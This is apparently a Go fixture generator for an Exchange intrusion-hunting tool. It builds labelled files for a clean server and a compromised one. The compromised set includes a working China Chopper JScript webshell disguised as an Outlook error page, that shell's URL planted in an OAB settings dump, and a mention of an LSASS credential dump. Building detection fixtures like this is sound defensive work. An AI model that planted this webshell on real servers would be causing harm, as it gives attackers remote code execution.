package sample

import (
	"archive/zip"
	"bytes"
	"strconv"
	"strings"
	"time"

	"github.com/exhunt/exhunt/internal/filegen"
)

// Files on disk. Both servers carry what Exchange and IIS install (the
// legacy aspnet_client web.config, logon pages, ecp/auth/TimeoutLogoff.aspx,
// Exchange's own compiled pages); EX01 also keeps what the attackers left:
// a second China Chopper in owa/auth, a copy of the OAB settings dump in
// the OAB folder, the compiled copy of the deleted log.aspx, the LSASS dump
// and its 7-Zip archive in ProgramData, and the crash report of the UM
// worker. EX02 has a security product's zips in ProgramData and an
// unrelated crash report. Every binary is synthetic (internal/filegen).
//
// File marks carry Source "file" and Line 0: they name a whole file.

const (
	feDir      = "D/Exchange Server/V15/FrontEnd/HttpProxy/"
	tempASPNET = "C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/"
	werArchive = "C/ProgramData/Microsoft/Windows/WER/ReportArchive/"
	// BackupShellPath is the China Chopper EX01 still has.
	BackupShellPath = feDir + "owa/auth/OutlookJP.aspx"
	backupPassword  = "klk7890"
)

// iisWebConfig is the aspnet_client web.config IIS writes (its hash is on
// the known-good list, cert-lv LV-02).
const iisWebConfig = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<configuration>\r\n    <system.webServer>\r\n        <httpRedirect enabled=\"false\" />\r\n    </system.webServer>\r\n</configuration>\r\n"

// Exchange-like pages of our own words: they must stay silent.
const (
	logonPage = `<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>` + crlf +
		`<%@ Import namespace="Microsoft.Exchange.HttpProxy"%>` + crlf +
		`<!DOCTYPE html>` + crlf + `<html><head><title>Outlook</title>` + crlf +
		`<link type="text/css" rel="stylesheet" href="/owa/auth/<%=Microsoft.Exchange.Clients.Owa.Core.OwaVersion.Current%>/themes/resources/logon.css">` + crlf +
		`</head><body class="signInBg">` + crlf +
		`<form action="/owa/auth.owa" method="POST" name="logonForm" ENCTYPE="application/x-www-form-urlencoded" autocomplete="off">` + crlf +
		`<input type="hidden" name="destination" value="<%=Server.HtmlEncode(Destination)%>">` + crlf +
		`<input id="username" name="username" type="text"> <input id="password" name="password" type="password">` + crlf +
		`<% if (ShowError) { %><div class="signInError"><%=ErrorText%></div><% } %>` + crlf +
		`</form></body></html>` + crlf
	timeoutLogoffPage = `<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.TimeoutLogoff" %>` + crlf +
		`<html><head><meta http-equiv="refresh" content="0;url=/ecp/"></head><body></body></html>` + crlf
	logonCSS = `body.signInBg { background-color: #fff; font-family: "Segoe UI", "Segoe UI Web", Tahoma, Arial, sans-serif; }` + crlf
	flogonJS = `function clkLgn() { var u = document.getElementById("username"); if (u && u.value.length === 0) { u.focus(); return false; } return true; }` + crlf
)

// backupShell is a China Chopper variant dressed as an Outlook error page.
var backupShell = `<%@ Page Language="Jscript" Debug="false" %>` + crlf +
	`<html><head><title>Outlook</title></head><body><div class="errorHeader">Something went wrong</div>` + crlf +
	`<%eval(Request.Item["` + backupPassword + `"],"unsafe");%>` + crlf +
	`</body></html>` + crlf

// oabDump renders the OAB virtual directory settings as
// Reset-OABVirtualDirectory exports them, with the Chopper in ExternalUrl.
func (s *server) oabDump() string {
	var b strings.Builder
	kv := func(k, v string) { b.WriteString(k + strings.Repeat(" ", 32-len(k)) + ": " + v + crlf) }
	kv("Name", "OAB (Default Web Site)")
	kv("PollInterval", "480")
	kv("OfflineAddressBooks", "")
	kv("RequireSSL", "True")
	kv("BasicAuthentication", "False")
	kv("WindowsAuthentication", "True")
	kv("OAuthAuthentication", "True")
	kv("MetabasePath", "IIS://"+s.fqdn+"/W3SVC/1/ROOT/OAB")
	kv("Path", InstallPath+`FrontEnd\HttpProxy\OAB`)
	kv("ExtendedProtectionTokenChecking", "None")
	kv("ExtendedProtectionFlags", "")
	kv("ExtendedProtectionSPNList", "")
	kv("AdminDisplayVersion", "Version 15.1 (Build 2106.2)")
	kv("Server", s.name)
	kv("InternalUrl", "https://"+s.fqdn+"/OAB")
	kv("InternalAuthenticationMethods", "WindowsIntegrated")
	kv("ExternalUrl", ChopperURL)
	kv("ExternalAuthenticationMethods", "WindowsIntegrated")
	kv("Identity", s.name+`\OAB (Default Web Site)`)
	return b.String()
}

// fileTime is a Windows FILETIME (100 ns since 1601) in decimal.
func fileTime(t time.Time) string {
	const epochDiff = 116444736000000000
	return strconv.FormatUint(uint64(t.UnixNano()/100)+epochDiff, 10)
}

func (b *builder) file(path string, data []byte, m *Mark) {
	b.extra = append(b.extra, File{Path: path, Data: data})
	if m != nil {
		mk := *m
		mk.Path, mk.Source, mk.Line = path, "file", 0
		b.extraMarks = append(b.extraMarks, mk)
	}
}

// exchangeFiles are the files every sample server has.
func (s *server) exchangeFiles(b *builder) {
	b.file("C/inetpub/wwwroot/aspnet_client/web.config", []byte(iisWebConfig),
		mark("benign.aspnet-client-webconfig", "the legacy web.config IIS writes into aspnet_client (known-good hash, cert-lv LV-02)"))
	b.file(feDir+"owa/auth/logon.aspx", []byte(logonPage), mark("benign.exchange-page", "Exchange's OWA logon page (our stand-in)"))
	b.file(feDir+"owa/auth/15.1.2106/themes/resources/logon.css", []byte(logonCSS), nil)
	b.file(feDir+"owa/auth/Current/scripts/premium/flogon.js", []byte(flogonJS), nil)
	b.file(feDir+"ecp/auth/TimeoutLogoff.aspx", []byte(timeoutLogoffPage), mark("benign.exchange-page", "the one page ecp/auth ships"))
	b.file(tempASPNET+"owa/3a5e2c71/7b1d04f9/App_Web_logon.aspx.cdcab7d2.dll",
		filegen.PE([]string{"App_Web_logon.aspx.cdcab7d2", "Microsoft.Exchange.HttpProxy", "ASP.auth_logon_aspx"}, []string{"~/auth/logon.aspx"}),
		mark("benign.compiled-exchange-page", "ASP.NET's compiled copy of Exchange's logon page"))
}

// compromisedFiles are what the attackers left on EX01.
func (s *server) compromisedFiles(b *builder) {
	s.exchangeFiles(b)
	b.file(BackupShellPath, []byte(backupShell),
		mark("file.webshell.owa-auth", "second China Chopper, dressed as an Outlook error page; planted through log.aspx, never requested in the logs kept"))
	b.file(feDir+"OAB/log.aspx", []byte(s.oabDump()),
		mark("file.webshell.oab-dump", "copy of the OAB settings dump (ExternalUrl = China Chopper) the attacker kept in the OAB folder (a path on MSTIC's list)"))
	b.file(tempASPNET+"root/8f2a41c7/5e6b9d03/App_Web_klk4vz2q.dll",
		filegen.PE([]string{"App_Web_klk4vz2q", "ASP.aspnet_client_system_web_log_aspx", "Microsoft.JScript", "JScriptEvaluate", "get_Request"}, []string{"~/aspnet_client/system_web/log.aspx"}),
		mark("file.compiled-shell", "ASP.NET's compiled copy of log.aspx: it outlives the shell deleted on 1 Mar"))
	b.file(tempASPNET+"root/8f2a41c7/5e6b9d03/log.aspx.cdcab7d2.compiled",
		[]byte(`<?xml version="1.0" encoding="utf-8"?>`+crlf+`<preserve resultType="3" virtualPath="/aspnet_client/system_web/log.aspx" hash="fffffff8a1c6b1d2" filehash="4c1b9f2e7a3d6e05" flags="110000" assembly="App_Web_klk4vz2q" type="ASP.aspnet_client_system_web_log_aspx">`+crlf+`    <filedeps>`+crlf+`        <filedep name="/aspnet_client/system_web/log.aspx" />`+crlf+`    </filedeps>`+crlf+`</preserve>`+crlf),
		mark("file.compiled-shell", "ASP.NET's map of the compiled log.aspx"))
	b.file("C/ProgramData/lsass.dmp",
		filegen.Minidump(`C:\Windows\System32\lsass.exe`, `C:\Windows\SYSTEM32\ntdll.dll`, `C:\Windows\System32\KERNEL32.DLL`, `C:\Windows\system32\lsasrv.dll`, `C:\Windows\system32\msv1_0.dll`, `C:\Windows\system32\wdigest.DLL`, `C:\Windows\system32\kerberos.DLL`),
		mark("file.credential.lsass-dump", "comsvcs.dll MiniDump of LSASS (synthetic: module list only, no memory)"))
	b.file("C/ProgramData/lsass.7z", filegen.SevenZip(),
		mark("file.collection.archive", "the dump packed with 7-Zip for download (synthetic head)"))
	crash := ms(day(2021, 2, 27), 19, 46, 4, 220)
	b.file(werArchive+"AppCrash_UMWorkerProcess_5c1f0e3ad7b94c2e9a17b0d4f6e28c31_0b6d5e9a_1f2c7d3e/Report.wer",
		filegen.WER("Version", "1", "EventType", "APPCRASH", "EventTime", fileTime(crash), "ReportType", "2", "Consent", "1",
			"ReportIdentifier", "5f0e1c2d-3b4a-4e6f-9a8b-7c6d5e4f3a2b", "NsAppName", "UMWorkerProcess.exe",
			"Sig[0].Name", "Application Name", "Sig[0].Value", "UMWorkerProcess.exe",
			"Sig[1].Name", "Application Version", "Sig[1].Value", "15.1.2106.2",
			"Sig[3].Name", "Fault Module Name", "Sig[3].Value", "KERNELBASE.dll",
			"FriendlyEventName", "Stopped working", "ConsentKey", "APPCRASH",
			"AppName", "UMWorkerProcess.exe", "AppPath", InstallPath+`Bin\UMWorkerProcess.exe`),
		mark("file.attempt.um-crash", "UM worker crash report, one second after the InvalidCastException (CVE-2021-26857)"))
}

// cleanFiles: EX02 has a security product's zips and an unrelated crash.
func (s *server) cleanFiles(b *builder) {
	s.exchangeFiles(b)
	b.file("C/ProgramData/McAfee/Common Framework/Backup/policies.zip", vendorZip(),
		mark("noise.archive-vendor", "a security product's backup zip in ProgramData: low on a clean host (CSS-Exchange#311)"))
	crash := ms(day(2021, 3, 9), 3, 12, 44, 0)
	b.file(werArchive+"AppCrash_msiexec.exe_9d3c1b7e5f2a4c6e8b0d1f3a5c7e9b2d_2e4f6a8c/Report.wer",
		filegen.WER("Version", "1", "EventType", "APPCRASH", "EventTime", fileTime(crash), "NsAppName", "msiexec.exe",
			"Sig[0].Name", "Application Name", "Sig[0].Value", "msiexec.exe", "AppName", "Windows installer", "AppPath", `C:\Windows\System32\msiexec.exe`),
		mark("benign.wer-installer", "an installer crash report"))
}

// vendorZip is a small, real zip with a fixed timestamp.
func vendorZip() []byte {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.CreateHeader(&zip.FileHeader{Name: "policies/agent.xml", Method: zip.Deflate, Modified: time.Date(2021, 3, 1, 4, 0, 0, 0, time.UTC)})
	w.Write([]byte(`<?xml version="1.0"?><Policies><Policy name="Agent" enforce="true"/></Policies>` + crlf))
	zw.Close()
	return buf.Bytes()
}
